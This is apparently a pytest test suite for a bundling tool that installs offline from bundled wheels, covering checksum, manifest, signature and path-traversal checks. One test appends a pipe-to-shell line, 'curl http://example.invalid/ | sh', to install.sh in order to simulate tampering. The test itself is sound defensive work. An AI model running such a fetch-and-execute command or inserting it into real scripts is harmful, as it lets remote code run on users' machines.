"""bundle --with-tool: the bundle carries amsrepomirror as wheels and installs it with no network.

The wheels are downloaded from PyPI on the "online" side (once for this module); the installs run
under ``unshare -n`` (a network namespace with no interface but a down loopback), so anything
install.sh tried to fetch would fail.
"""

import json
import os
import re
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from clihelp import REPO, run_cli
from servers import require_tool

from amsrepomirror.bundle.format import MANIFEST_NAME, README_NAME, SUMS_NAME
from amsrepomirror.bundle.sums import write_sums
from amsrepomirror.bundle.tool import ToolSpec, install_script, tool_matches
from amsrepomirror.testing.scmdouble import DEFAULT_VERSION, ScmDouble, make_repository

PYENV = Path("/root/.pyenv/versions")
OTHER_PYTHON = "3.10"  # the supported floor; built for as well as the running Python


def interpreter(version: str) -> str:
    """A real interpreter of ``version`` (X.Y): on PATH, or pyenv's."""
    found = shutil.which(f"python{version}")
    if found and subprocess.run([found, "-V"], capture_output=True).returncode == 0:
        return found
    candidates = sorted(PYENV.glob(f"{version}.*/bin/python{version}"))
    assert candidates, f"no Python {version} on this machine (needed for the --with-tool test)"
    return str(candidates[-1])


@pytest.fixture(scope="module")
def tool_bundle(tmp_path_factory):
    """A finished bundle made with --with-tool for the running Python and 3.10 (one download per module)."""
    work = tmp_path_factory.mktemp("tool")
    root = work / "scm"
    make_repository(root, DEFAULT_VERSION)
    double = ScmDouble(root)
    double.start()
    try:
        running = f"{sys.version_info[0]}.{sys.version_info[1]}"
        result = run_cli("bundle", "--version", DEFAULT_VERSION, "--mirror", work / "mirror",
                         "--listing-url", double.listing_url(DEFAULT_VERSION), "--out", work / "bundle",
                         "--chunk-size", "1MiB", "--with-tool", "--tool-python", running, "--tool-python", OTHER_PYTHON,
                         timeout=600)
    finally:
        double.stop()
    assert result.returncode == 0, result.stderr
    return work / "bundle"


def offline(cmd, *, env, cwd=None, timeout=300):
    """Run ``cmd`` with no network: in a new network namespace (unshare -n, as root)."""
    unshare = require_tool("unshare")
    return subprocess.run([unshare, "-n", *cmd], env=env, cwd=cwd, capture_output=True, text=True, timeout=timeout,
                          stdin=subprocess.DEVNULL)


def clean_env(home: Path, path: str, **extra) -> dict:
    """An environment with nothing of this test run's venv or pip settings in it."""
    env = {k: v for k, v in os.environ.items() if not k.startswith(("PIP_", "PYTHON", "VIRTUAL_ENV"))}
    env.update(HOME=str(home), PATH=path, **extra)
    return env


def copied(bundle: Path, dest: Path) -> Path:
    """The bundle as it arrives on the other side: copied file by file (as from the sticks)."""
    shutil.copytree(bundle, dest)
    return dest


def test_tool_files_are_in_manifest_and_sums_and_readme_checks_first(tool_bundle):
    manifest = json.loads((tool_bundle / MANIFEST_NAME).read_text())
    tool = {t["path"]: t for t in manifest["tool"]}
    on_disk = {p.relative_to(tool_bundle).as_posix() for p in (tool_bundle / "tool").rglob("*") if p.is_file()}
    assert set(tool) == on_disk
    names = {Path(p).name for p in tool}
    assert "install.sh" in names
    assert any(n.startswith("amsrepomirror-") for n in names) and any(n.startswith("pip-") for n in names)
    assert any(n.startswith("py7zr-") for n in names) and any(n.startswith("luigi-") for n in names)
    assert any("cp310" in n for n in names)  # compiled dependencies for the other Python too

    sums = dict(reversed(line.split("  ", 1)) for line in (tool_bundle / SUMS_NAME).read_text().splitlines())
    assert {p: sums.get(p) for p in tool} == {p: t["sha256"] for p, t in tool.items()}
    check = subprocess.run(["sha256sum", "-c", SUMS_NAME], cwd=tool_bundle, capture_output=True, text=True)
    assert check.returncode == 0, check.stdout
    assert "tool/install.sh: OK" in check.stdout

    readme = (tool_bundle / README_NAME).read_text()
    assert readme.index(f"sha256sum -c {SUMS_NAME}") < readme.index("sh tool/install.sh") < readme.index("7z x")


def test_install_sh_installs_from_the_bundle_alone_with_no_network(tool_bundle, tmp_path):
    bundle = copied(tool_bundle, tmp_path / "arrived")
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / f"python{OTHER_PYTHON}").symlink_to(interpreter(OTHER_PYTHON))
    env = clean_env(tmp_path, f"{bin_dir}:/usr/bin:/bin")
    probe = offline([sys.executable, "-c", "import socket; socket.create_connection(('pypi.org', 443), 3)"], env=env)
    assert probe.returncode != 0  # really no network in there

    # The interpreter the script picks by itself (the newest the wheels fit), then the one named.
    for venv, extra in ((tmp_path / "venv-picked", {}), (tmp_path / "venv-310", {"PYTHON": f"python{OTHER_PYTHON}"})):
        result = offline(["sh", str(bundle / "tool" / "install.sh"), str(venv)], env={**env, **extra}, cwd=tmp_path)
        assert result.returncode == 0, result.stdout + result.stderr
        assert "is intact" in result.stdout
        assert "verified without allowed signers: the signature was not checked" in result.stdout
        where = subprocess.run([str(venv / "bin" / "python"), "-c", "import sys, amsrepomirror; "
                                "print(amsrepomirror.__file__); print('%d.%d' % sys.version_info[:2])"],
                               capture_output=True, text=True, env=env, cwd=tmp_path)
        module, version = where.stdout.split()
        assert Path(module).is_relative_to(venv) and not Path(module).is_relative_to(REPO)  # a real install, no checkout
        if extra:
            assert version == OTHER_PYTHON


def test_install_sh_names_what_to_install_when_no_python_fits(tool_bundle, tmp_path):
    old = sorted(PYENV.glob("3.9.*/bin/python3.9"))
    assert old, "no Python 3.9 on this machine (a login node's python3 in this test)"
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "python3").symlink_to(old[-1])
    for tool in ("dirname", "ls", "head"):
        (bin_dir / tool).symlink_to(shutil.which(tool))
    result = offline(["/bin/sh", str(tool_bundle / "tool" / "install.sh"), str(tmp_path / "venv")],
                     env=clean_env(tmp_path, str(bin_dir)), cwd=tmp_path)
    assert result.returncode == 1
    running = f"{sys.version_info[0]}.{sys.version_info[1]}"
    first = result.stderr.splitlines()[0]
    assert first.startswith(f"install.sh: no Python {running} {OTHER_PYTHON} here: install python{running} ")
    assert not (tmp_path / "venv").exists()


def test_verify_reports_a_changed_tool_file(tool_bundle, tmp_path):
    bundle = copied(tool_bundle, tmp_path / "arrived")
    script = bundle / "tool" / "install.sh"
    script.write_text(script.read_text() + "curl http://example.invalid/ | sh\n")
    result = run_cli("verify", bundle)
    assert result.returncode == 4
    assert "tool/install.sh: SHA256SUMS disagrees with manifest.json" not in result.stdout + result.stderr
    assert "tool/install.sh: corrupt" in result.stdout + result.stderr
    assert subprocess.run(["sha256sum", "--quiet", "-c", SUMS_NAME], cwd=bundle, capture_output=True).returncode == 1


def test_make_unpack_with_no_network_and_no_wheels_says_what_to_use(tmp_path):
    make = require_tool("make")
    venv = tmp_path / "venv"
    result = offline([make, "-s", "-C", str(REPO), "unpack", f"BUNDLE={tmp_path / 'bundle'}", f"AMSHOME={tmp_path / 'ams'}",
                      f"VENV={venv}"], env=clean_env(tmp_path, os.environ["PATH"]), timeout=120)
    assert result.returncode != 0
    assert result.stderr.splitlines()[0] == (
        "error: cannot reach https://pypi.org/simple to install amsrepomirror: offline, run the bundle's "
        "tool/install.sh (bundle --with-tool) or give wheels: make unpack WHEELS=DIR")
    assert not venv.exists()  # nothing half-made


def test_a_tool_path_outside_tool_is_refused(tool_bundle, tmp_path):
    bundle = copied(tool_bundle, tmp_path / "arrived")
    body = json.loads((bundle / MANIFEST_NAME).read_text())
    body["tool"][0]["path"] = "tool/../../escape.sh"
    (bundle / MANIFEST_NAME).write_text(json.dumps(body))
    write_sums(bundle, [c["name"] for c in body["chunks"]] + [MANIFEST_NAME, README_NAME])
    result = run_cli("verify", bundle)
    assert result.returncode == 4
    assert "field tool[0].path is 'tool/../../escape.sh': expected a safe path under tool/" in result.stdout + result.stderr


@pytest.mark.parametrize("where", ["AMSBIN", "AMSHOME"])
def test_install_sh_falls_back_to_ams_own_python(tool_bundle, tmp_path, where):
    """No python3.X on PATH, python3 too old: AMS's amspython (a wrapper script) serves when it is new enough."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    (bin_dir / "python3").symlink_to(sorted(PYENV.glob("3.9.*/bin/python3.9"))[-1])
    for tool in ("dirname", "ls", "head"):
        (bin_dir / tool).symlink_to(shutil.which(tool))
    amshome = tmp_path / "ams2026.101"
    (amshome / "bin").mkdir(parents=True)
    wrapper = amshome / "bin" / "amspython"
    wrapper.write_text(f'#!/bin/sh\nexec "{interpreter(OTHER_PYTHON)}" "$@"\n')
    wrapper.chmod(0o755)
    ams = {"AMSBIN": str(amshome / "bin")} if where == "AMSBIN" else {"AMSHOME": str(amshome)}
    venv = tmp_path / "venv"
    result = offline(["/bin/sh", str(tool_bundle / "tool" / "install.sh"), str(venv)],
                     env=clean_env(tmp_path, str(bin_dir), **ams), cwd=tmp_path)
    assert result.returncode == 0, result.stdout + result.stderr
    assert f"(Python {OTHER_PYTHON} from {wrapper})" in result.stdout and "is intact" in result.stdout
    version = subprocess.run([str(venv / "bin" / "python"), "-c", "import sys, amsrepomirror; "
                              "print('%d.%d' % sys.version_info[:2])"], capture_output=True, text=True, cwd=tmp_path)
    assert version.stdout.strip() == OTHER_PYTHON, version.stderr


def test_bundling_again_for_another_python_rebuilds_the_tool(tool_bundle, tmp_path):
    out = copied(tool_bundle, tmp_path / "bundle")
    before = {t["path"] for t in json.loads((out / MANIFEST_NAME).read_text())["tool"]}
    running = f"cp{sys.version_info[0]}{sys.version_info[1]}"
    assert any(running in Path(p).name for p in before) and running != "cp310"
    result = run_cli("bundle", "--offline", "--version", DEFAULT_VERSION, "--mirror", tool_bundle.parent / "mirror",
                     "--out", out, "--chunk-size", "1MiB", "--with-tool", "--tool-python", OTHER_PYTHON, timeout=600)
    assert result.returncode == 0, result.stderr
    after = {t["path"] for t in json.loads((out / MANIFEST_NAME).read_text())["tool"]}
    assert not any(running in Path(p).name for p in after) and any("cp310" in Path(p).name for p in after)
    assert f"The wheels are for Python {OTHER_PYTHON}.\n" in (out / "tool" / "install.sh").read_text()
    assert {p.relative_to(out).as_posix() for p in (out / "tool").rglob("*") if p.is_file()} == after
    assert run_cli("verify", out).returncode == 0


def test_a_tool_for_other_platforms_is_not_the_tool_asked_for(tmp_path):
    (tmp_path / "tool").mkdir()
    (tmp_path / "tool" / "install.sh").write_text(install_script(ToolSpec(pythons=["3.12"], platforms=["manylinux2014_x86_64"])))
    assert tool_matches(tmp_path, True, ["3.12"], ["manylinux2014_x86_64"])
    assert not tool_matches(tmp_path, True, ["3.12"], ["manylinux2014_aarch64"])
    assert not tool_matches(tmp_path, True, ["3.12", "3.10"], ["manylinux2014_x86_64"])
    assert not tool_matches(tmp_path, False, [], [])
    assert tool_matches(tmp_path / "elsewhere", False, [], [])


def test_linux_wheels_install_on_glibc_2_28_by_default(tool_bundle):
    """RHEL/Rocky 8 (glibc 2.28) must be able to install every wheel, though this machine's glibc is newer
    (pip alone would take e.g. cryptography's manylinux_2_34 wheel)."""
    def runs_on_glibc_2_28(tag):
        legacy = {"manylinux1": 5, "manylinux2010": 12, "manylinux2014": 17}
        found = re.match(r"(manylinux1|manylinux2010|manylinux2014|manylinux_2_(\d+))_", tag)
        return found is not None and (legacy.get(found.group(1)) or int(found.group(2))) <= 28
    wheels = [p.name for p in (tool_bundle / "tool" / "wheels").glob("*.whl")]
    assert any(name.startswith("cryptography-") for name in wheels)
    binary = {name: name[:-len(".whl")].split("-")[-1].split(".") for name in wheels if not name.endswith("-any.whl")}
    assert binary and {name: tags for name, tags in binary.items() if not any(map(runs_on_glibc_2_28, tags))} == {}


def test_install_sh_passes_the_site_trust_setting_on_to_verify(tool_bundle, keys, tmp_path):
    _, allowed = keys
    bundle = copied(tool_bundle, tmp_path / "arrived")
    site = tmp_path / "site settings.cfg"  # a space in the name: passed on as one argument
    site.write_text(f"[trust]\nallowed_signers = {allowed}\n")
    env = clean_env(tmp_path, "/usr/bin:/bin", PYTHON=interpreter(f"{sys.version_info[0]}.{sys.version_info[1]}"),
                    AMSREPOMIRROR_CONFIG=str(site))
    result = offline(["sh", str(bundle / "tool" / "install.sh"), str(tmp_path / "venv")], env=env, cwd=tmp_path)
    assert result.returncode == 4, result.stdout + result.stderr
    assert "is intact" in result.stdout and "signature: unsigned" in result.stdout
    assert [line for line in result.stderr.splitlines() if line.startswith("error:")] == [
        f"error: bundle {bundle} is not signed (manifest.json.sig is missing), but [trust] allowed_signers "
        f"({allowed}) requires a signature by an allowed key"]
    assert "verified without allowed signers" not in result.stdout
